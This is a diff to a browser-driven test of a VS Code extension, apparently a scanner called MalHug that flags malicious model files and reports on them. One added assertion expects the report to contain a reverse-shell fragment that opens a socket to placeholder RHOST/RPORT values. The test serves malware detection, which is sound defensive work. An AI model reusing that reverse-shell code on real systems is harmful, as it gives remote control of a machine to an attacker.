@@ -332,6 +332,8 @@ describe('MalHug in a real VS Code (code-server)', () => {
                 assert.match(text, /malicious/i, `hover on ${needle} has no verdict: ${text}`);
                 if (needle === pinnable) {
                     await shot('hover');
+                } else {
+                    assert.match(text, /Full report: command MalHug: Show Report/, `the cut hover does not point to the report: ${text}`);
                 }
             }
             await page.mouse.move(10, 10);
@@ -373,6 +375,9 @@ describe('MalHug in a real VS Code (code-server)', () => {
             assert.match(report, /reverse-shell/, report);
             assert.match(report, /revision/i, report);
             assert.match(report, /pytorch_model\.bin/, report);
+            // The reverse shell's payload is not cut before its socket code (the hover's cut is at 160 characters).
+            assert.ok(report.includes('s=socket.socket();s.connect((RHOST,RPORT))'), report);
+            assert.doesNotMatch(report, /Full report: command/, report);
             await shot('report');
             await page.keyboard.press('Control+w'); // close the preview (a file: no save prompt)
         }));
